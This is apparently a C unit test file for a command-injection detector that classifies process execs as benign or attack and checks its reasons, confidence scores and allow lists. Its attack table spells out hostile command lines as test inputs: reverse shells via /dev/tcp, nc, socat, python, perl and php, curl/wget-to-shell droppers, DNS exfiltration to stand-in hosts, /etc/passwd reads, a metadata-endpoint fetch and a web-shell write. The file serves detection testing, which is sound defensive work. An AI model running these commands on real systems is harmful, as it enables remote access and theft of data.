/*
 * Unit tests for agent/cmdi.c, run with the shipped rules/cmdi.json (read
 * from disk, so the defaults are what is tested) plus, for the corpus, the
 * allow entries an operator adds for the three shell pipelines its service
 * really runs. A table of benign and attack execs with the verdict expected
 * of each; FP/FN counts printed; exact reasons; reasons cut to fit;
 * parameter errors.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>

#include "cmdi.h"
#include "rulefile.h"
#include "rowcheck.h"
#include "rules.h"

#define RULE_FILE "rules/cmdi.json"

/* The shipped rule, plus allow entries when extra is not NULL (NULL-terminated). */
static struct cmdi *new_shipped(struct tu_rule_file *s, const char *const *extra)
{
	char err[256] = "";
	struct cmdi *d;

	tu_rule_file_load(s, RULE_FILE);
	for (; extra && *extra; extra++)
		cJSON_AddItemToArray(cJSON_GetObjectItem((cJSON *)s->rule.params, "allow"), cJSON_CreateString(*extra));
	d = cmdi__new(&s->rule, err, sizeof(err));
	if (!d)
		fail_msg("cmdi__new: %s", err);
	return d;
}

static void test_rule_file(void **state)
{
	struct tu_rule_file s;
	const cJSON *ev;
	char err[256] = "";

	tu_rule_file_load(&s, RULE_FILE);
	CHECK_STR(RULE_FILE, s.rule.name, "cmdi");
	CHECK_STR(RULE_FILE, s.rule.detector, "cmdi");
	CHECK_INT(RULE_FILE, s.rule.ncwes, 2);
	CHECK_INT(RULE_FILE, s.rule.cwes[0], 78);
	CHECK_INT(RULE_FILE, s.rule.cwes[1], 77);
	CHECK_STR(RULE_FILE, s.rule.severity, "critical");
	ev = cJSON_GetObjectItem(s.root, "events");
	CHECK_INT(RULE_FILE, cJSON_GetArraySize(ev), 1);
	CHECK_STR(RULE_FILE, cJSON_GetStringValue(cJSON_GetArrayItem(ev, 0)), "exec");
	if (cmdi__check_params(s.rule.params, err, sizeof(err)) != 0)
		fail_msg("%s: %s", RULE_FILE, err);
	cJSON_Delete(s.root);
}

#define NONE 0
#define TRIG FINDING_TRIGGERED
#define CONF FINDING_CONFIRMED
#define MAX_ARGS 16

struct row {
	const char *name;
	bool attack;
	const char *parent;
	bool descendant;
	const char *filename;
	const char *argv[MAX_ARGS]; /* NULL-terminated */
	int want;
};

/* Run one exec; returns NONE, TRIG or CONF and checks the fields every detection must have. */
static int run(struct cmdi *d, const char *row, const char *parent, bool descendant, const char *filename,
	       const char *const *argv, struct detection *det)
{
	struct cmdi_input in = {
	    .filename = filename, .argv = argv, .parent_comm = parent, .by_service_descendant = descendant};
	int r;

	while (argv && argv[in.argc])
		in.argc++;
	memset(det, 0xa5, sizeof(*det));
	r = cmdi__observe(d, &in, det);
	if (r == 0)
		return NONE;
	CHECK_INT(row, r, 1);
	CHECK_STR(row, det->detector, "cmdi");
	CHECK_INT(row, det->ncwes, 2);
	CHECK_INT(row, det->cwes[0], 78);
	CHECK_INT(row, det->cwes[1], 77);
	CHECK_STR(row, det->severity, "critical");
	if (det->confidence < 1 || det->confidence > 100)
		fail_msg("\"%s\": confidence %d", row, det->confidence);
	if (memchr(det->reason, '\0', sizeof(det->reason)) == NULL || det->reason[0] == '\0')
		fail_msg("\"%s\": reason empty or not terminated", row);
	if (strchr(det->reason, '\n'))
		fail_msg("\"%s\": raw newline in reason", row);
	if (det->status != FINDING_TRIGGERED && det->status != FINDING_CONFIRMED)
		fail_msg("\"%s\": status %d", row, det->status);
	return det->status;
}

/* What this service's operator allow-lists: the pipelines it really runs. */
/* clang-format off */
static const char *const operator_allow[] = {
	"ps aux | grep *",
	"cd /srv/app && git pull --ff-only",
	"curl -fsS http://127.0.0.1:8080/health",
	NULL,
};
/* clang-format on */

#define SH "/bin/sh"
#define PY "python3"

/* clang-format off */
static const struct row rows[] = {
	/* Benign. A shell -c with a fixed command is the live sink: triggered by design, never confirmed. */
	{"getent localhost", false, PY, false, SH, {"/bin/sh", "-c", "getent hosts localhost"}, TRIG},
	{"getent internal name", false, PY, false, SH, {"/bin/sh", "-c", "getent hosts db-1.internal"}, TRIG},
	{"convert resize", false, PY, false, SH, {"/bin/sh", "-c", "convert /tmp/up/a.png -resize 50% /tmp/up/a_small.png"}, TRIG},
	{"ffmpeg quoted path", false, PY, false, SH, {"/bin/sh", "-c", "ffmpeg -i \"/data/in file.mp4\" -y /data/out.mp4"}, TRIG},
	{"stderr to null", false, PY, false, SH, {"/bin/sh", "-c", "git rev-parse HEAD 2>/dev/null"}, TRIG},
	{"2>&1", false, PY, false, SH, {"/bin/sh", "-c", "pdftotext /tmp/upload.pdf - 2>&1"}, TRIG},
	{"quoted metachars", false, PY, false, SH, {"/bin/sh", "-c", "echo 'a;b|c&&d'"}, TRIG},
	{"pipe in double quotes", false, PY, false, SH, {"/bin/sh", "-c", "grep -c \"ERROR|WARN\" /var/log/app.log"}, TRIG},
	{"quoted file with ;", false, PY, false, SH, {"/bin/sh", "-c", "ls -l '/srv/app/files/my file;1.txt'"}, TRIG},
	{"exec worker", false, PY, false, SH, {"/bin/sh", "-c", "exec /usr/bin/python3 worker.py"}, TRIG},
	{"all output to null", false, "node", false, "/bin/bash", {"bash", "-c", "wkhtmltopdf https://example.com/x /tmp/x.pdf >/dev/null 2>&1"}, TRIG},
	{"tar backup", false, PY, false, SH, {"sh", "-c", "tar czf /backup/db.tgz /var/lib/app"}, TRIG},
	{"sh -ec", false, PY, false, SH, {"sh", "-ec", "mkdir -p /tmp/cache"}, TRIG},
	{"bash -o pipefail -c", false, PY, false, "/usr/bin/bash", {"bash", "-o", "pipefail", "-c", "make build"}, TRIG},
	{"busybox sh -c", false, PY, false, "/bin/busybox", {"busybox", "sh", "-c", "ls /data"}, TRIG},
	{"identify is not id", false, PY, false, SH, {"/bin/sh", "-c", "identify -format %w /tmp/a.png"}, TRIG},
	{"allowed pipeline", false, PY, false, SH, {"/bin/sh", "-c", "ps aux | grep worker"}, TRIG},
	{"allowed chain", false, PY, false, SH, {"/bin/sh", "-c", "cd /srv/app && git pull --ff-only"}, TRIG},
	{"allowed health curl", false, PY, false, "/usr/bin/curl", {"curl", "-fsS", "http://127.0.0.1:8080/health"}, NONE},
	{"platform.processor", false, PY, false, "/usr/bin/uname", {"uname", "-p"}, NONE},
	{"ctypes find_library", false, PY, false, "/sbin/ldconfig", {"/sbin/ldconfig", "-p"}, NONE},
	{"git status", false, PY, false, "/usr/bin/git", {"git", "status", "--porcelain"}, NONE},
	{"convert direct", false, PY, false, "/usr/bin/convert", {"convert", "a.png", "b.jpg"}, NONE},
	{"ffmpeg direct", false, PY, false, "/usr/bin/ffmpeg", {"ffmpeg", "-i", "a;b.mp4", "out.mp4"}, NONE},
	{"getent run by the shell child", false, "sh", true, "/usr/bin/getent", {"getent", "hosts", "localhost"}, NONE},
	{"worker run by the shell child", false, "sh", true, "/usr/bin/python3", {"/usr/bin/python3", "worker.py"}, NONE},
	{"gpg verify", false, PY, false, "/usr/bin/gpg", {"gpg", "--verify", "pkg.sig", "pkg.tgz"}, NONE},
	{"pg_dump", false, PY, false, "/usr/bin/pg_dump", {"pg_dump", "-Fc", "app"}, NONE},
	{"bash script file", false, PY, false, "/bin/bash", {"/bin/bash", "/srv/app/scripts/rotate.sh"}, NONE},
	{"env launcher", false, PY, false, "/usr/bin/env", {"/usr/bin/env", "python3", "manage.py", "migrate"}, NONE},
	{"node", false, "npm", false, "/usr/bin/node", {"node", "server.js"}, NONE},
	{"sendmail", false, PY, false, "/usr/sbin/sendmail", {"sendmail", "-t", "-oi"}, NONE},
	{"identify direct", false, PY, false, "/usr/bin/identify", {"identify", "image.png"}, NONE},
	{"uptime", false, PY, false, "/usr/bin/uptime", {"uptime"}, NONE},
	{"catdoc is not cat", false, PY, false, "/usr/bin/catdoc", {"catdoc", "/etc/passwd"}, NONE},
	{"cat of a data file", false, "sh", true, "/bin/cat", {"cat", "/srv/app/files/readme.txt"}, NONE},
	{"rsync -e is not nc -e", false, PY, false, "/usr/bin/rsync", {"rsync", "-e", "ssh", "-a", "/data/", "backup:/data/"}, NONE},
	{"rsync -e through a shell", false, PY, false, SH, {"/bin/sh", "-c", "rsync -e ssh -a /data/ backup:/data/"}, TRIG},
	{"curl word in an argument", false, PY, false, "/usr/bin/git", {"git", "clone", "https://github.com/curl/curl"}, NONE},

	/* Attacks. */
	{"chained id", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x;id"}, CONF},
	{"id from the shell child", true, "sh", true, "/usr/bin/id", {"id"}, CONF},
	{"demo attack", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts localhost;id;cat /etc/passwd"}, CONF},
	{"&& whoami", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x && whoami"}, CONF},
	{"|| uname -a", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x || uname -a"}, CONF},
	{"pipe to nc", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x | nc 10.0.0.5 4444"}, CONF},
	{"$( ) substitution", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts $(whoami).evil.example"}, CONF},
	{"backtick substitution", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts `id`"}, CONF},
	{"newline", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x\nid"}, CONF},
	{"background &", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x & sleep 5"}, CONF},
	{"write a web shell", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x > /var/www/html/shell.php"}, CONF},
	{"curl | sh", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x;curl http://evil.example/x.sh|sh"}, CONF},
	{"wget | bash", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x; wget -qO- http://evil/x | bash"}, CONF},
	{"/dev/tcp", true, PY, false, SH, {"/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, CONF},
	{"mkfifo reverse shell", true, PY, false, SH, {"/bin/sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"}, CONF},
	{"nc -e", true, "sh", true, "/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}, CONF},
	{"ncat -e bash", true, "sh", true, "/usr/bin/ncat", {"ncat", "10.0.0.1", "4444", "-e", "/bin/bash"}, CONF},
	{"socat exec", true, "sh", true, "/usr/bin/socat", {"socat", "tcp-connect:10.0.0.1:4444", "exec:/bin/sh"}, CONF},
	{"shell spawned by nc", true, "nc", true, "/bin/sh", {"/bin/sh"}, CONF},
	{"bash -i", true, "sh", true, "/bin/bash", {"bash", "-i"}, CONF},
	{"bash -li", true, "sh", true, "/bin/bash", {"bash", "-li"}, CONF},
	{"zsh -i", true, "sh", true, "/usr/bin/zsh", {"zsh", "-i"}, CONF},
	{"python reverse shell", true, "sh", true, "/usr/bin/python3", {"python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444))"}, CONF},
	{"whoami", true, "sh", true, "/usr/bin/whoami", {"whoami"}, CONF},
	{"uname -a", true, "sh", true, "/usr/bin/uname", {"uname", "-a"}, CONF},
	{"curl metadata", true, "sh", true, "/usr/bin/curl", {"curl", "http://169.254.169.254/latest/meta-data/"}, CONF},
	{"wget dropper", true, "sh", true, "/usr/bin/wget", {"wget", "http://evil/x", "-O", "/tmp/x"}, CONF},
	{"busybox nc", true, "sh", true, "/bin/busybox", {"busybox", "nc", "10.0.0.1", "4444", "-e", "sh"}, CONF},
	{"cat /etc/passwd", true, "sh", true, "/bin/cat", {"cat", "/etc/passwd"}, CONF},
	{"getent passwd", true, "sh", true, "/usr/bin/getent", {"getent", "passwd"}, CONF},
	{"substitution in double quotes", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts \"x$(id)\""}, CONF},
	{"quote breakout", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts 'x';id;''"}, CONF},
	{"plain pipe", true, PY, false, SH, {"/bin/sh", "-c", "getent hosts x|id"}, CONF},
	{"perl Socket", true, "sh", true, "/usr/bin/perl", {"perl", "-e", "use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))"}, CONF},
	{"php fsockopen", true, PY, false, SH, {"sh", "-c", "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"}, CONF},
	{"DNS exfiltration", true, PY, false, SH, {"/bin/sh", "-c", "nslookup $(whoami).attacker.example"}, CONF},
	{"allowed prefix, injected tail", true, PY, false, SH, {"/bin/sh", "-c", "ps aux | grep x;id"}, CONF},
	{"id by the service itself", true, PY, false, "/usr/bin/id", {"id"}, CONF},
	{"sh -c id", true, PY, false, SH, {"/bin/sh", "-c", "id"}, CONF},
	{"env wrapper", true, PY, false, SH, {"/bin/sh", "-c", "FOO=1 env -i timeout 5 whoami"}, CONF},
	{"bash --norc -c", true, PY, false, "/bin/bash", {"bash", "--norc", "-c", "x;id"}, CONF},
	{"sh -c -- cmd", true, PY, false, SH, {"sh", "-c", "--", "x;id"}, CONF},
	/* Known misses. */
	{"FN: argument injection (CWE-88)", true, PY, false, "/bin/tar", {"tar", "cf", "/tmp/a.tar", "--checkpoint=1", "--checkpoint-action=exec=sh /tmp/x.sh", "."}, NONE},
	{"FN: dropped script run", true, "sh", true, SH, {"sh", "/tmp/x.sh"}, NONE},
};
/* clang-format on */

static void test_corpus(void **state)
{
	struct tu_rule_file s, plain;
	struct cmdi *d = new_shipped(&s, operator_allow), *defaults = new_shipped(&plain, NULL);
	struct detection det;
	size_t i, nb = 0, na = 0, fp_conf = 0, fp_trig = 0, a_conf = 0, a_trig = 0, fn = 0, known_fn = 0;
	size_t conf_without_allow = 0;

	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *r = &rows[i];
		int got = run(d, r->name, r->parent, r->descendant, r->filename, r->argv, &det);

		if (got != r->want)
			fail_msg("\"%s\": got %d, want %d; reason: %s", r->name, got, r->want, got ? det.reason : "-");
		if (!r->attack) {
			nb++;
			fp_conf += got == CONF;
			fp_trig += got == TRIG;
			conf_without_allow +=
			    run(defaults, r->name, r->parent, r->descendant, r->filename, r->argv, &det) == CONF;
		} else {
			na++;
			a_conf += got == CONF;
			a_trig += got == TRIG;
			fn += got == NONE;
			known_fn += strncmp(r->name, "FN:", 3) == 0;
		}
	}
	print_message("cmdi: benign %zu: FP confirmed %zu, triggered (shell sink live) %zu; attack %zu: confirmed %zu, "
		      "triggered only %zu, FN (missed) %zu\n",
		      nb, fp_conf, fp_trig, na, a_conf, a_trig, fn);
	print_message("cmdi: without the operator's 3 allow entries, %zu benign execs would be confirmed\n",
		      conf_without_allow);
	assert_true(nb >= 30);
	assert_true(na >= 30);
	CHECK_INT("FP confirmed", fp_conf, 0);
	CHECK_INT("FN", fn, known_fn);
	/* Exactly the three allow-listed pipelines: the allow list is what keeps them quiet. */
	CHECK_INT("confirmed without allow", conf_without_allow, 3);
	cmdi__free(d);
	cmdi__free(defaults);
	cJSON_Delete(s.root);
	cJSON_Delete(plain.root);
}

static void test_reasons(void **state)
{
	/* clang-format off */
	static const struct {
		const char *parent;
		bool descendant;
		const char *filename;
		const char *argv[MAX_ARGS];
		const char *want;
	} cases[] = {
		{PY, false, SH, {"/bin/sh", "-c", "getent hosts x;id"},
		 "python3 ran /bin/sh -c 'getent hosts x;id' : command chained with ';' and ran recon tool id"},
		{PY, false, SH, {"/bin/sh", "-c", "getent hosts localhost"},
		 "python3 ran /bin/sh -c 'getent hosts localhost' : shell command sink reached, no injection shape in it"},
		{"sh", true, "/usr/bin/id", {"id"}, "sh ran /usr/bin/id : recon tool id run by a descendant of the service"},
		{PY, false, "/usr/bin/curl", {"curl", "-s", "http://10.0.0.1/"},
		 "python3 ran /usr/bin/curl -s http://10.0.0.1/ : network tool curl run by the service"},
		{PY, false, SH, {"/bin/sh", "-c", "x `id`"},
		 "python3 ran /bin/sh -c 'x `id`' : command substitution with '`' and ran recon tool id"},
		{PY, false, SH, {"/bin/sh", "-c", "x\nid"},
		 "python3 ran /bin/sh -c 'x\\nid' : command chained with '\\n' and ran recon tool id"},
		{PY, false, SH, {"/bin/sh", "-c", "x | tee /tmp/o"}, "python3 ran /bin/sh -c 'x | tee /tmp/o' : command piped with '|'"},
		{PY, false, SH, {"/bin/sh", "-c", "x >/tmp/o"}, "python3 ran /bin/sh -c 'x >/tmp/o' : redirection with '>'"},
		{"sh", true, "/bin/cat", {"cat", "/etc/passwd"},
		 "sh ran /bin/cat /etc/passwd : recon tool cat /etc/passwd run by a descendant of the service"},
		{"nc", true, SH, {"/bin/sh"}, "nc ran /bin/sh : shell started by network tool nc (reverse shell)"},
		/* ">&" is a redirection, not '&' chaining; "0>&1" is a harmless idiom. */
		{PY, false, SH, {"/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		 "python3 ran /bin/sh -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' : reverse-shell shape '/dev/tcp/' and "
		 "redirection with '>'"},
		{"", false, SH, {"sh"}, "a service process ran /bin/sh : shell reading commands from its input"},
		{PY, false, "/bin/busybox", {"busybox", "sh", "-c", "a;id"},
		 "python3 ran /bin/busybox sh -c 'a;id' : command chained with ';' and ran recon tool id"},
	};
	/* clang-format on */
	struct tu_rule_file s;
	struct cmdi *d = new_shipped(&s, NULL);
	struct detection det;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_not_equal(
		    run(d, cases[i].want, cases[i].parent, cases[i].descendant, cases[i].filename, cases[i].argv, &det),
		    NONE);
		CHECK_STR(cases[i].want, det.reason, cases[i].want);
	}
	/* Confidence ranks the evidence: reverse shell > chaining with a tool > chaining > redirection > sink. */
	{
		/* clang-format off */
		static const struct {
			const char *cmd;
			int want;
		} conf[] = {
			{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 95},
			{"x;id", 95},
			{"x;y", 90},
			{"id", 90},
			{"x >/tmp/o", 80},
			{"x", 70},
		};
		/* clang-format on */

		for (i = 0; i < sizeof(conf) / sizeof(conf[0]); i++) {
			const char *argv[] = {"sh", "-c", conf[i].cmd, NULL};

			assert_int_not_equal(run(d, conf[i].cmd, PY, false, SH, argv, &det), NONE);
			CHECK_INT(conf[i].cmd, det.confidence, conf[i].want);
		}
	}
	cmdi__free(d);
	cJSON_Delete(s.root);
}

/* A 3000-byte command is cut with "..." and the detail still ends the reason whole. */
static void test_long_command(void **state)
{
	static const char tail[] = " : command chained with ';' and ran recon tool id";
	struct tu_rule_file s;
	struct cmdi *d = new_shipped(&s, NULL);
	struct detection det;
	char *cmd = malloc(3100);
	const char *argv[] = {"/bin/sh", "-c", cmd, NULL};
	size_t len;

	assert_non_null(cmd);
	strcpy(cmd, "getent hosts ");
	memset(cmd + 13, 'a', 3000);
	strcpy(cmd + 3013, ";id");
	assert_int_equal(run(d, "long", PY, false, SH, argv, &det), CONF);
	len = strlen(det.reason);
	assert_true(len < sizeof(det.reason));
	assert_true(len > sizeof(tail));
	CHECK_STR("long", det.reason + len - (sizeof(tail) - 1), tail);
	assert_non_null(strstr(det.reason, "aaa...'"));
	assert_int_equal(strncmp(det.reason, "python3 ran /bin/sh -c 'getent hosts aaa", 40), 0);
	free(cmd);
	cmdi__free(d);
	cJSON_Delete(s.root);
}

/* Allow globs: '*' never spans a metacharacter; a '/'-led entry matches the full path. */
static void test_allow_globs(void **state)
{
	/* clang-format off */
	static const char *const allow[] = {"getent hosts *", "/opt/tools/bin/curl -s *", NULL};
	struct tu_rule_file s;
	struct cmdi *d = new_shipped(&s, allow);
	struct detection det;
	const char *a1[] = {"/bin/sh", "-c", "getent hosts db1.internal", NULL};
	const char *a2[] = {"/bin/sh", "-c", "getent hosts x;id", NULL};
	const char *a3[] = {"/bin/sh", "-c", "getent hosts $(id)", NULL};
	const char *a4[] = {"curl", "-s", "http://x/", NULL};

	assert_int_equal(run(d, "allowed", PY, false, SH, a1, &det), TRIG);
	CHECK_STR("allowed", det.reason,
		  "python3 ran /bin/sh -c 'getent hosts db1.internal' : allow-listed command run through a shell");
	assert_int_equal(run(d, "; past the star", PY, false, SH, a2, &det), CONF);
	assert_int_equal(run(d, "$( past the star", PY, false, SH, a3, &det), CONF);
	assert_int_equal(run(d, "allowed by path", PY, false, "/opt/tools/bin/curl", a4, &det), NONE);
	assert_int_equal(run(d, "other curl", PY, false, "/usr/bin/curl", a4, &det), CONF);
	cmdi__free(d);
	cJSON_Delete(s.root);
}

static void test_params_errors(void **state)
{
	static const struct {
		const char *json;
		const char *want; /* NULL: valid */
	} cases[] = {
		{"{}", NULL},
		{"{\"shells\": [\"sh\"], \"recon_tools\": [\"cat /etc/*\"], \"metacharacters\": [\";\"]}", NULL},
		{"[]", "$.params: expected an object"},
		{"{\"foo\": 1}", "$.params.foo: unknown key"},
		{"{\"shells\": [\"sh\"], \"shell\": []}", "$.params.shell: unknown key"},
		{"{\"shells\": \"sh\"}", "$.params.shells: expected an array of strings"},
		{"{\"shells\": [\"/bin/sh\", 3]}", "$.params.shells[1]: expected a string"},
		{"{\"shells\": [\"busybox sh\"]}", "$.params.shells[0]: expected a program path or name"},
		{"{\"recon_tools\": [\"id\", \"cat \"]}",
		 "$.params.recon_tools[1]: expected \"program\" or \"program argument-glob\""},
		{"{\"network_tools\": [\" nc\"]}",
		 "$.params.network_tools[0]: expected \"program\" or \"program argument-glob\""},
		{"{\"metacharacters\": [\";\", \"\"]}", "$.params.metacharacters[1]: empty string"},
		{"{\"metacharacters\": [\"123456789\"]}",
		 "$.params.metacharacters[0]: metacharacter longer than 8 bytes"},
		{"{\"reverse_shell_patterns\": [true]}", "$.params.reverse_shell_patterns[0]: expected a string"},
		{"{\"allow\": {}}", "$.params.allow: expected an array of strings"},
	};
	/* clang-format on */
	struct rule_family rule = {.name = "cmdi", .severity = "critical"};
	char err[256];
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cJSON *p = cJSON_Parse(cases[i].json);
		struct cmdi *d;
		int ret;

		assert_non_null(p);
		strcpy(err, "untouched");
		ret = cmdi__check_params(p, err, sizeof(err));
		if (!cases[i].want) {
			CHECK_INT(cases[i].json, ret, 0);
			CHECK_STR(cases[i].json, err, "untouched");
		} else {
			CHECK_INT(cases[i].json, ret, -EINVAL);
			CHECK_STR(cases[i].json, err, cases[i].want);
			rule.params = p;
			strcpy(err, "");
			errno = 0;
			d = cmdi__new(&rule, err, sizeof(err));
			assert_null(d);
			CHECK_INT(cases[i].json, errno, EINVAL);
			CHECK_STR(cases[i].json, err, cases[i].want);
		}
		cJSON_Delete(p);
	}
}

static void test_null_arguments(void **state)
{
	struct tu_rule_file s;
	struct cmdi *d = new_shipped(&s, NULL);
	struct cmdi_input in = {.filename = "/usr/bin/id"};
	struct detection det;
	char err[64] = "";

	assert_int_equal(cmdi__observe(NULL, &in, &det), -EINVAL);
	assert_int_equal(cmdi__observe(d, NULL, &det), -EINVAL);
	assert_int_equal(cmdi__observe(d, &in, NULL), -EINVAL);
	/* No argv, no parent, no filename: ordinary input. */
	assert_int_equal(cmdi__observe(d, &in, &det), 1);
	assert_int_equal(det.status, FINDING_CONFIRMED);
	in.filename = NULL;
	in.argc = 3; /* with argv NULL, argc is not read */
	assert_int_equal(cmdi__observe(d, &in, &det), 0);
	{
		const char *argv[] = {"/bin/sh", "-c", NULL};

		in.filename = "/bin/sh";
		in.argv = argv;
		in.argc = 3; /* a NULL element reads as "" */
		assert_int_equal(cmdi__observe(d, &in, &det), 1);
		assert_int_equal(det.status, FINDING_TRIGGERED);
	}
	errno = 0;
	assert_null(cmdi__new(NULL, err, sizeof(err)));
	assert_int_equal(errno, EINVAL);
	CHECK_STR("new(NULL)", err, "no rule family");
	cmdi__free(NULL);
	cmdi__free(d);
	cJSON_Delete(s.root);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_rule_file),	   cmocka_unit_test(test_corpus),
	    cmocka_unit_test(test_reasons),	   cmocka_unit_test(test_long_command),
	    cmocka_unit_test(test_allow_globs),	   cmocka_unit_test(test_params_errors),
	    cmocka_unit_test(test_null_arguments),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
